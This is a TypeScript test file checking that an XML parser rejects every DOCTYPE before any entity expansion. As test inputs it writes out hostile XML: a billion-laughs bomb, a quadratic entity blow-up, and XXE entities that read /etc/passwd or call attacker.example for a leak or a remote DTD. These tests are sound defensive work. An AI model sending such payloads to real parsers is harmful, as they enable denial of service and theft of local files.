import { describe, expect, it } from 'vitest'
import { xmlFault } from '../support/issues'
import { KINDS } from '../totality/kinds'
import { expectSyntaxError, rejection } from './support'

const DOCTYPE = 'DOCTYPE is not allowed: syncwire reads no DTD, so it declares no entities and loads nothing external'

// OWASP's "billion laughs": ten levels of ten references, 10^9 copies of "lol" if anything expanded them.
const laughs = Array.from({ length: 9 }, (_, k) => {
  const previous = k === 0 ? 'lol' : `lol${k}`
  return ` <!ENTITY lol${k + 1} "${`&${previous};`.repeat(10)}">`
}).join('\n')
const billionLaughs = (root: string, close: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n${laughs}\n]>\n${root}&lol9;${close}`

// Quadratic blow-up: one 50 kB entity referenced 50,000 times (2.5 GB expanded), no nesting for a depth limit to catch.
const quadratic = (root: string, close: string) =>
  `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]>${root}${'&a;'.repeat(50_000)}${close}`

describe('hostile entities: every kind rejects a DTD at its DOCTYPE, before any expansion', () => {
  for (const kind of KINDS) {
    it(`${kind.name}: billion laughs`, () => {
      expectSyntaxError(kind, billionLaughs(kind.open, kind.close), 2, 1, DOCTYPE)
    })

    it(`${kind.name}: quadratic blow-up`, () => {
      expectSyntaxError(kind, quadratic(kind.open, kind.close), 1, 1, DOCTYPE)
    })

    it(`${kind.name}: external entities (file and http), an external DTD and a parameter entity`, () => {
      const decl = '<?xml version="1.0" encoding="UTF-8"?>'
      const file = `${decl}<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${kind.open}&xxe;${kind.close}`
      const http = `${decl}\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/leak">]>${kind.open}&xxe;${kind.close}`
      const dtd = `<!DOCTYPE r PUBLIC "-//A//B" "http://attacker.example/a.dtd">${kind.open}${kind.close}`
      const parameter = `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${kind.open}${kind.close}`
      expectSyntaxError(kind, file, 1, decl.length + 1, DOCTYPE)
      expectSyntaxError(kind, http, 2, 1, DOCTYPE)
      expectSyntaxError(kind, dtd, 1, 1, DOCTYPE)
      expectSyntaxError(kind, parameter, 1, 1, DOCTYPE)
    })

    it(`${kind.name}: a DOCTYPE inside the root, and an entity reference without any DTD`, () => {
      expectSyntaxError(kind, `${kind.open}<!DOCTYPE r>${kind.close}`, 1, kind.open.length + 1, DOCTYPE)
      expect(rejection(kind, `${kind.open}<x a="&xxe;"/>${kind.close}`)).toStrictEqual([
        xmlFault(
          'not-well-formed',
          'undefined entity &xxe; (only &lt; &gt; &amp; &apos; &quot; exist)',
          1,
          kind.open.length + 7,
        ),
      ])
    })
  }
})
